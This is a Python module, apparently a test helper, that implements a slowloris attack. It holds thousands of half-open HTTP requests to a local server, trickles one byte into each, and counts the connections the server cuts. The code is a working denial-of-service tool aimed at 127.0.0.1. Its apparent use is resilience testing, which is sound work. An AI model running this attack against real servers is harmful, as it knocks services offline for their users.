"""Half-open request heads, a byte every few seconds each, as long as the block lasts (slowloris)."""

import contextlib
import selectors
import socket
import threading
import time
from collections.abc import Iterator

HEADS = 2_000
_BYTE_S = 2.0
_HALF = b"GET / HTTP/1.1\r\nHost: r1.example\r\nX-Slow: "


class Trickle:
    """The attack; ``cut`` counts the connections that the server has ended."""

    def __init__(self, port: int) -> None:
        self.cut = 0
        self._port = port
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    @contextlib.contextmanager
    def going_on(self) -> Iterator[None]:
        """Attack meanwhile."""
        self._thread.start()
        try:
            yield
        finally:
            self._stop.set()
            self._thread.join()

    def _run(self) -> None:
        links: dict[int, socket.socket] = {}
        with selectors.DefaultSelector() as selector:
            while not self._stop.is_set():
                while len(links) < HEADS and not self._stop.is_set():
                    link = self._begin()
                    links[link.fileno()] = link
                    selector.register(link.fileno(), selectors.EVENT_READ)
                for link in links.values():
                    with contextlib.suppress(OSError):
                        link.send(b"x")
                for number in self._ended(selector):
                    links.pop(number).close()
                    self.cut += 1
        for link in links.values():
            link.close()

    def _begin(self) -> socket.socket:
        link = socket.create_connection(("127.0.0.1", self._port))
        link.setblocking(False)
        link.send(_HALF)
        return link

    def _ended(self, selector: selectors.BaseSelector) -> Iterator[int]:
        """Yield what the server has ended, until the next byte's turn."""
        until_s = time.monotonic() + _BYTE_S
        while (left_s := until_s - time.monotonic()) > 0 and not self._stop.is_set():
            for key, _ in selector.select(min(left_s, 0.1)):
                selector.unregister(key.fd)
                yield key.fd
